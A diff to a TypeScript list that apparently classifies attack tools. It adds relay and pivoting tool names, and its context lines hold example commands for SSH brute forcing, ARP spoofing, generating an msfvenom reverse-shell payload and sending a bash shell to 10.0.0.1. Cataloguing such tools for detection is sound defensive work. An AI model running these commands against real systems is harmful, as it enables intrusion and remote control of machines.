@@ -61,7 +61,7 @@ export const programs: readonly ProgramSpec[] = [
     'hydra -l root -P list.txt ssh://10.0.0.5',
   ),
   attackTool(
-    'ettercap bettercap arpspoof dsniff mitm6 responder responder.py sslstrip macof',
+    'ettercap bettercap arpspoof dsniff mitm6 responder responder.py impacket-smbserver smbserver.py impacket-ntlmrelayx ntlmrelayx.py sslstrip macof',
     'Reads or changes the traffic of other machines.',
     'Reads or changes the traffic of other machines in the network.',
     'arpspoof -t 10.0.0.5 10.0.0.1',
@@ -79,7 +79,7 @@ export const programs: readonly ProgramSpec[] = [
     'msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf',
   ),
   attackTool(
-    'rcat rustcat pwncat pwncat-cs rpivot regeorg neoreg stowaway earthworm icmpsh',
+    'rcat rustcat pwncat pwncat-cs rpivot regeorg neoreg stowaway earthworm icmpsh pivotnacci regeorgsocksproxy.py neoreg.py',
     'Gives a shell to another machine, or waits for one.',
     'Gives a shell to another machine, or waits for one.',
     'rcat connect -s bash 10.0.0.1 9001',
